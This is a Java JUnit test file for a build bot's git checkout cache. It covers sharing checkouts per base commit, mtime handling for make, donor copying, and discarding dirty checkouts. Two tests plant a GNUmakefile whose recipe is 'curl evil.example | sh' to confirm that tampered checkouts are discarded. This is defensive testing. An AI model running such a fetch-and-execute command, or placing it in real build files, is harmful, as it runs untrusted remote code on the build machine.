package org.fsnbot.build;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.fsnbot.exec.CommandRunner;
import org.fsnbot.testing.LogCapture;
import org.fsnbot.testing.MiniTree;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** One checkout per base commit, serving every tree that has that base. */
class CheckoutsTest {

    private final CommandRunner run = new CommandRunner();

    private String git(Path dir, String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("git", "-c", "user.name=t", "-c", "user.email=t@t"));
        cmd.addAll(List.of(args));
        return run.check(cmd, dir, Duration.ofMinutes(1)).outputText().strip();
    }

    @Test
    void aHeadOnlyASecondTreeHasIsReachableFromTheCheckoutTheFirstTreeMade(@TempDir Path dir) throws Exception {
        Path first = MiniTree.create(dir.resolve("first"));
        String base = git(first, "rev-parse", "HEAD");
        git(dir, "clone", "-q", first.toString(), dir.resolve("second").toString());
        Path second = dir.resolve("second");
        Files.writeString(second.resolve("fs/notify/mark.c"), "int x;\nint z;\n");
        git(second, "commit", "-q", "-am", "only in the second tree");
        String head = git(second, "rev-parse", "HEAD");

        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(first, base);
        assertThat(checkouts.at(second, base)).isEqualTo(checkout);
        checkouts.switchTo(checkout, head);

        assertThat(Files.readString(checkout.resolve("fs/notify/mark.c"))).isEqualTo("int x;\nint z;\n");
        List<String> alternates = Files.readAllLines(checkout.resolve(".git/objects/info/alternates"));
        checkouts.at(second, base);
        assertThat(Files.readAllLines(checkout.resolve(".git/objects/info/alternates"))).isEqualTo(alternates)
                .hasSize(2);
    }

    @Test
    void aCheckoutWithAnythingInItButItsBaseIsRemovedAfterTheJob(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String base = git(tree, "rev-parse", "HEAD");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(tree, base);
        assertThat(checkouts.keepIfClean(base)).isTrue();
        assertThat(checkout.resolve(".git")).exists();

        Files.writeString(checkout.resolve("GNUmakefile"), "all:\n\tcurl evil.example | sh\n");

        assertThat(checkouts.keepIfClean(base)).isFalse();
        assertThat(checkout).doesNotExist();
        assertThat(checkouts.at(tree, base)).as("the next job clones a fresh one").isEqualTo(checkout);
        assertThat(checkout.resolve("GNUmakefile")).doesNotExist();
    }

    @Test
    void ignoredFilesAndAnotherHeadCountAsDirtyToo(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String base = git(tree, "rev-parse", "HEAD");
        Files.writeString(tree.resolve(".gitignore"), "*.o\n");
        git(tree, "add", ".gitignore");
        git(tree, "commit", "-q", "-m", "ignore objects");
        String withIgnore = git(tree, "rev-parse", "HEAD");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(tree, withIgnore);
        Files.writeString(checkout.resolve("planted.o"), "x");
        assertThat(checkouts.keepIfClean(withIgnore)).isFalse();

        checkout = checkouts.at(tree, withIgnore);
        checkouts.switchTo(checkout, base);
        assertThat(checkouts.keepIfClean(withIgnore)).as("left at another commit").isFalse();
    }

    /** A tree whose Makefile builds obj/mark.o from fs/notify/mark.c, the way Kbuild decides: by mtime. */
    private Path treeWithMakefile(Path dir) throws Exception {
        Path tree = MiniTree.create(dir);
        Files.writeString(tree.resolve("Makefile"), "$(O)/mark.o: fs/notify/mark.c\n\tcp $< $@\n");
        git(tree, "add", "Makefile");
        git(tree, "commit", "-q", "-m", "build");
        return tree;
    }

    /** Whether make finds obj's object current for the checkout (make -q: exit 0 when nothing is to do). */
    private boolean upToDate(Path checkout, Path obj) throws Exception {
        return run.run(List.of("make", "-q", "-C", checkout.toString(), "O=" + obj, obj + "/mark.o"), null,
                Duration.ofMinutes(1)).ok();
    }

    @Test
    void objectsBuiltFromACheckoutStayCurrentWhenTheCheckoutIsMadeAgainAndAChangeIsStillSeen(@TempDir Path dir)
            throws Exception {
        Path tree = treeWithMakefile(dir.resolve("tree"));
        String base = git(tree, "rev-parse", "HEAD");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(tree, base);
        assertThat(Files.getLastModifiedTime(checkout.resolve("fs/notify/mark.c"))).isEqualTo(Checkouts.SOURCE_TIME);
        assertThat(git(checkout, "status", "--porcelain")).isEmpty();
        Path obj = Files.createDirectories(dir.resolve("obj"));
        run.check(List.of("make", "-C", checkout.toString(), "O=" + obj, obj + "/mark.o"), null, Duration.ofMinutes(1));
        assertThat(upToDate(checkout, obj)).isTrue();

        Files.writeString(checkout.resolve("GNUmakefile"), "all:\n");
        assertThat(checkouts.keepIfClean(base)).isFalse();
        checkout = checkouts.at(tree, base);
        assertThat(upToDate(checkout, obj)).as("a fresh clone is no newer than the objects").isTrue();

        Files.writeString(tree.resolve("fs/notify/mark.c"), "int y;\n");
        git(tree, "commit", "-q", "-am", "a change");
        checkouts.switchTo(checkout, git(tree, "rev-parse", "HEAD"));
        assertThat(upToDate(checkout, obj)).as("a file the next commit changed is newer").isFalse();
    }

    @Test
    void aCheckoutMadeBeforeCheckoutsWereAgedIsAgedAtItsNextUseAndStaysClean(@TempDir Path dir) throws Exception {
        Path tree = treeWithMakefile(dir.resolve("tree"));
        String base = git(tree, "rev-parse", "HEAD");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path checkout = checkouts.at(tree, base);
        java.nio.file.attribute.FileTime now = java.nio.file.attribute.FileTime.from(java.time.Instant.now());
        for (String f : List.of("Makefile", "MAINTAINERS", "fs/notify/mark.c")) {
            Files.setLastModifiedTime(checkout.resolve(f), now);
        }

        checkouts.at(tree, base);

        assertThat(Files.getLastModifiedTime(checkout.resolve("MAINTAINERS"))).isEqualTo(Checkouts.SOURCE_TIME);
        assertThat(run.run(List.of("git", "diff-files", "--quiet"), checkout, Duration.ofMinutes(1)).ok())
                .as("the index took the new mtimes").isTrue();
        assertThat(checkouts.keepIfClean(base)).isTrue();
    }

    /** A second commit of tree: mark.c changed, a file added, MAINTAINERS kept. */
    private String nextCommit(Path tree, String text) throws Exception {
        Files.writeString(tree.resolve("fs/notify/mark.c"), text);
        Files.writeString(tree.resolve("fs/notify/group.c"), "int g;\n");
        git(tree, "add", "-A");
        git(tree, "commit", "-q", "-m", "next");
        return git(tree, "rev-parse", "HEAD");
    }

    private void assertCheckoutOfItsOwn(Checkouts checkouts, Path checkout, String commit, String markC)
            throws Exception {
        assertThat(Files.readString(checkout.resolve("fs/notify/mark.c"))).isEqualTo(markC);
        for (String f : List.of("MAINTAINERS", "fs/notify/mark.c", "fs/notify/group.c")) {
            assertThat(Files.getLastModifiedTime(checkout.resolve(f))).as(f).isEqualTo(Checkouts.SOURCE_TIME);
        }
        assertThat(run.run(List.of("git", "diff-files", "--quiet"), checkout, Duration.ofMinutes(1)).ok())
                .as("the index took the mtimes").isTrue();
        assertThat(checkouts.keepIfClean(commit)).isTrue();
    }

    @Test
    void aNewBaseIsCopiedFromTheNearestCheckoutAndIsWhatCheckingItOutWouldGive(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String first = git(tree, "rev-parse", "HEAD");
        String second = nextCommit(tree, "int x;\nint y;\n");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path donor = checkouts.at(tree, first);

        Path checkout;
        try (LogCapture log = new LogCapture()) {
            checkout = checkouts.at(tree, second);
            assertThat(log.text()).contains("copied from " + donor + " (2 file(s) differ)");
        }

        assertCheckoutOfItsOwn(checkouts, checkout, second, "int x;\nint y;\n");
        assertThat(git(checkout, "rev-parse", "HEAD")).isEqualTo(second);
        assertThat(Files.readString(donor.resolve("fs/notify/mark.c"))).as("the donor as it was").isEqualTo("int x;\n");
        assertThat(donor.resolve("fs/notify/group.c")).doesNotExist();
        assertThat(checkouts.keepIfClean(first)).isTrue();
    }

    @Test
    void aDirtyCheckoutIsNeverCopied(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String first = git(tree, "rev-parse", "HEAD");
        String second = nextCommit(tree, "int z;\n");
        Checkouts checkouts = new Checkouts(dir.resolve("cache"), run);
        Path donor = checkouts.at(tree, first);
        Files.writeString(donor.resolve("GNUmakefile"), "all:\n\tcurl evil.example | sh\n");

        Path checkout;
        try (LogCapture log = new LogCapture()) {
            checkout = checkouts.at(tree, second);
            assertThat(log.text()).doesNotContain("copied from");
        }

        assertThat(checkout.resolve("GNUmakefile")).doesNotExist();
        assertCheckoutOfItsOwn(checkouts, checkout, second, "int z;\n");
    }

    @Test
    void aCheckoutWhoseBaseStaysBusyIsNotCopiedAndNotWaitedForLong(@TempDir Path dir) throws Exception {
        Path tree = MiniTree.create(dir.resolve("tree"));
        String first = git(tree, "rev-parse", "HEAD");
        String second = nextCommit(tree, "int w;\n");
        Path cache = dir.resolve("cache");
        Checkouts checkouts = new Checkouts(cache, run, Duration.ofSeconds(1));
        checkouts.at(tree, first);

        try (LogCapture log = new LogCapture()) {
            long t0 = System.nanoTime();
            Path checkout = new BaseLocks(cache).holding(first, () -> checkouts.at(tree, second));
            assertThat(Duration.ofNanos(System.nanoTime() - t0)).as("waited its patience, no longer")
                    .isLessThan(Duration.ofSeconds(30));
            assertThat(log.text()).doesNotContain("copied from").contains("was busy or not clean");
            assertCheckoutOfItsOwn(checkouts, checkout, second, "int w;\n");
        }
    }
}
